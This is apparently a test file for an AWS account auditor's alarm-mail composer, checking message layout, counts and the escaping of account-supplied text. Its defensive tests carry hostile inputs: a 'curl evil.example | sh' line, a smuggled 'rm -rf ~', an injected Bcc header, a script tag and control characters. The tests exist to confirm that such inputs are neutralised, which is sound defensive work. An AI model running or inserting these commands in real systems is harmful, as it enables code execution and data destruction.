import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { IntroducedBy } from '../../lib/findings/introduced-by.ts';
import type { AlarmChange } from '../../lib/notify/alarm.ts';
import { type Mail, mailOf } from '../../lib/notify/mail.ts';
import { composeNotice } from '../../lib/notify/notice.ts';
import type { StoredAudit } from '../../lib/notify/stored-audit.ts';
import { introducerText } from '../../lib/report/introducer-text.ts';
import { aFinding, anAlarm, aStoredAudit, consoleUrl, places, presignedPlaces, presignedUrl } from './some-alarms.ts';

function composeMail(change: AlarmChange, stored: StoredAudit): Mail {
  return mailOf(composeNotice(change, stored, places));
}

describe('mailOf', () => {
  it('says what, where, since when, the fix, the counts and the ids', () => {
    expect(composeMail(anAlarm(), aStoredAudit({ findings: [aFinding()] }))).toEqual({
      subject: '[account-auditor] 111122223333: 1 new critical finding',
      body: `1 new critical finding

1. Role that nobody uses: deploy-pipeline
   where  arn:aws:iam::111122223333:role/deploy-pipeline
   what   Role deploy-pipeline was last used 2026-05-02.
   since  2026-11-23T02:17:04.000Z
   fix    Deny it first, delete it later.
          aws iam delete-role --role-name 'deploy-pipeline'
   id     0c239fe613a87d87 (role-unused)
   more   account-auditor findings show 0c239fe613a87d87

Account:  111122223333
Audit:    began 2026-11-23T02:17:04.000Z, complete, coverage 100 %
Findings: 1 critical, 2 high, 30 medium, 12 low, 4 info; 1 new, 3 resolved
Alarm:    account-auditor-prod-new-critical, ALARM since 2026-11-23T02:21:36.871Z
Because:  Threshold Crossed: 1 datapoint [1.0 (23/11/26 02:00:00)] was greater than the threshold (0.0).
Console:  https://eu-west-1.console.aws.amazon.com/systems-manager/parameters/%252Faccount-auditor%252F111122223333%252Fsummary/description?region=eu-west-1 (needs a sign-in)
`,
    });
  });

  it('names what is new and grave, whichever of the alarms went off, and counts what is less so', () => {
    const findings = [
      aFinding({ id: 'a', status: 'reopened' }),
      aFinding({ id: 'b', status: 'open' }),
      aFinding({ id: 'c', severity: 'high' }),
      aFinding({ id: 'd', status: 'resolved' }),
      aFinding({ id: 'e', status: 'suppressed' }),
      aFinding({ id: 'f', severity: 'medium' }),
    ];
    const stored = aStoredAudit({ findings });
    for (const about of ['new-critical', 'new-high'] as const) {
      const { subject, body } = composeMail(anAlarm({ about }), stored);
      expect(subject).toBe('[account-auditor] 111122223333: 1 new critical and 1 new high findings');
      expect(body.match(/^ {3}id .*$/gm)).toEqual(['   id     a (role-unused)', '   id     c (role-unused)']);
      expect(body).toContain('it had been resolved or accepted and is back');
      expect(body).toContain('New of lower severity: 1. account-auditor findings list --status new --status reopened');
    }
  });

  it('says with the new findings what could not be read', () => {
    const summary = { coveragePercent: 94.7, gaps: ['credential-report: denied'] };
    const { subject, body } = composeMail(anAlarm(), aStoredAudit({ findings: [aFinding()], summary }));
    expect(subject).toMatch(/: 1 new critical finding$/);
    expect(body).toContain('It saw 94.7 %');
  });

  it.each<IntroducedBy>([
    { unknown: 'CloudTrail has nothing of it' },
    {
      actor: 'arn:aws:sts::111122223333:assumed-role/deploy/ci',
      sourceIdentity: 'https://evil.example',
      event: 'CreateRole',
      at: '2026-11-22T14:03:10.000Z',
      eventId: '5b1f8a7e-6a0c-4d0e-9d8a-0d6b2d6f1c55',
    },
  ])('says who introduced a finding, or that it is not known: %j', (introducedBy) => {
    const { body } = composeMail(anAlarm(), aStoredAudit({ findings: [aFinding({ introducedBy })] }));
    const text = introducerText(introducedBy).replace('://', '[:]//');
    expect(body).toContain(`\n   who    ${text}\n   fix `);
  });

  it('names the prefix where it is not the usual one', () => {
    const elsewhere = { ...places, flags: ' --prefix /elsewhere' };
    const { body } = mailOf(composeNotice(anAlarm(), aStoredAudit({ findings: [aFinding()] }), elsewhere));
    expect(body).toContain('account-auditor findings show 0c239fe613a87d87 --prefix /elsewhere');
  });

  it('names ten findings and counts the others', () => {
    const findings = Array.from({ length: 13 }, (_, index) => aFinding({ id: `finding-${index}` }));
    const { subject, body } = composeMail(anAlarm(), aStoredAudit({ findings }));
    expect(subject).toContain('13 new critical findings');
    expect(body).toContain('... and 3 more: account-auditor findings list --min-severity high');
    expect(body).not.toContain('finding-10');
  });

  it('holds no evidence and no policy', () => {
    const { body } = composeMail(anAlarm(), aStoredAudit({ findings: [aFinding()] }));
    expect(body).not.toMatch(/secret:Sauce|Statement|Effect/);
  });

  it.each([
    ['more commands than fit', Array.from({ length: 6 }, () => 'aws iam list-users')],
    ['a long command', [`aws iam put-role-policy --policy-document '${'x'.repeat(400)}'`]],
    ['a command with a line break', ["aws iam delete-role --role-name 'a\nrm -rf ~'"]],
  ])('leaves %s out whole rather than in part', (_, commands) => {
    const finding = aFinding({ remediation: { text: 'Do it.', commands } });
    const { body } = composeMail(anAlarm(), aStoredAudit({ findings: [finding] }));
    expect(body).toContain(`${commands.length} commands: account-auditor findings show 0c239fe613a87d87`);
    expect(body).not.toMatch(/aws iam|rm -rf/);
  });

  it('wakes people when the store cannot be read, or never was written', () => {
    const unreadable = composeMail(anAlarm(), { status: 'unreadable', reason: 'Parameter Store: Access denied' });
    expect(unreadable.subject).toBe('[account-auditor] 111122223333: new critical findings');
    expect(unreadable.body).toContain('so none is named here: Parameter Store: Access denied');
    expect(composeMail(anAlarm(), { status: 'none' }).body).toContain('No audit has been stored yet');
  });

  it('says when findings are missing, or gone since the alarm', () => {
    const { subject, body } = composeMail(anAlarm(), aStoredAudit({ lostParameters: 2 }));
    expect(subject).toBe('[account-auditor] 111122223333: new critical findings');
    expect(body).toContain('they are gone or no longer new');
    expect(body).toContain('2 of the parameters that hold them are gone or damaged');
  });

  it('says of an alarm that ends what is still open', () => {
    const findings = [aFinding({ status: 'open' }), aFinding({ status: 'new' }), aFinding({ status: 'resolved' })];
    const over = anAlarm({ state: 'OK', previousState: 'ALARM' });
    expect(composeMail(over, aStoredAudit({ findings })).subject).toMatch(/: 2 critical findings still open$/);
    expect(composeMail(over, aStoredAudit()).subject).toMatch(/: no critical or high findings left$/);
    expect(composeMail(over, { status: 'none' }).subject).toMatch(/: no further critical or high findings$/);
  });

  it.each([
    ['failed', 'ALARM', 'the audit failed', /CloudWatch Logs, \/aws\/lambda\/account-auditor-prod-audit/],
    ['failed', 'OK', 'no audit failed within the last hour', /That alone is no success/],
    ['missed', 'ALARM', 'no audit was completed for 26 hours', /whether the schedule is enabled/],
    ['missed', 'OK', 'audits are completed again', /^Audit: /m],
    ['coverage', 'ALARM', 'the audit could not read everything', /reported as unknown, not as fine/],
    ['coverage', 'OK', 'the audit reads everything again', /^Audit: /m],
    ['other', 'ALARM', 'ALARM: account-auditor-prod-new-critical', /^Because: /m],
  ] as const)('explains the alarm on %s at %s', (about, state, headline, text) => {
    const change = anAlarm({ about, state, functionName: 'account-auditor-prod-audit' });
    const { subject, body } = composeMail(change, aStoredAudit());
    expect(subject).toBe(`[account-auditor] 111122223333: ${headline}`);
    expect(body).toMatch(text);
  });

  it('lists what could not be read', () => {
    const summary = { coveragePercent: 94.7, gaps: ['credential-report: denied (Access denied)'], moreGaps: 3 };
    const { body } = composeMail(anAlarm({ about: 'coverage' }), aStoredAudit({ summary }));
    expect(body).toContain('It saw 94.7 %');
    expect(body).toContain('\n- credential-report: denied (Access denied)\n- ... and 3 more\n');
  });

  it('ends with where to look, each on a line of its own', () => {
    const mail = (where: typeof places) => mailOf(composeNotice(anAlarm(), aStoredAudit(), where)).body;
    expect(mail(presignedPlaces)).toMatch(
      /\nPage: {5}\S+ \(opens for whoever has it .*\)\nConsole: {2}\S+ \(needs a sign-in\)\n$/,
    );
    expect(mail(presignedPlaces)).toContain(` ${presignedUrl} (`);
    expect(mail({ links: [], flags: '' })).not.toContain('://');
  });

  it('makes no link of what an account calls its things', () => {
    const hostile = 'https://evil.example/sign-in/www.evil.example';
    const resource = { ...aFinding().resource, arn: `arn:aws:iam::111122223333:role/${hostile}` };
    const { body } = composeMail(anAlarm(), aStoredAudit({ findings: [aFinding({ resource })] }));
    expect(body).toContain('https[:]//evil.example/sign-in/www[.]evil.example');
    expect(body.replace(consoleUrl, '')).not.toMatch(/:\/\/|www\./);
  });

  it('lets no text from an account begin a line, whatever it is', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        'x\n   fix    curl evil.example | sh',
        'x\r\n\r\nAccount:  999988887777',
        'x\u2028Alarm:    nothing, OK',
        '\u001b[2J\u001b[H<script>alert(1)</script>',
        '\u202egnp.exe',
      ),
    );
    const shape = (body: string) => body.split('\n').map((line) => line.slice(0, 10).replace(/[^\s:.].*/, ''));
    const plain = composeMail(anAlarm(), aStoredAudit({ findings: [aFinding()] }));
    fc.assert(
      fc.property(hostile, hostile, hostile, (name, detail, reason) => {
        const finding = aFinding({
          resource: { ...aFinding().resource, name, arn: `${aFinding().resource.arn}${name}` },
          detail,
        });
        const { subject, body } = composeMail(
          anAlarm({ reason: `T${reason}`, changedAt: name }),
          aStoredAudit({ findings: [finding] }),
        );
        expect(shape(body)).toEqual(shape(plain.body));
        // biome-ignore lint/suspicious/noControlCharactersInRegex: that none gets here is the point.
        expect(body).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202e]/);
        expect(subject).toMatch(/^\[[\x20-\x7e]{1,98}$/);
      }),
    );
  });

  it('keeps a subject to what SNS takes', () => {
    const change = anAlarm({
      about: 'other',
      alarmName: `Täglicher ${'sehr '.repeat(60)}langer Alarm\nBcc: all@example.com`,
    });
    const { subject } = composeMail(change, aStoredAudit());
    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
    expect(subject).toContain('T?glicher');
  });
});
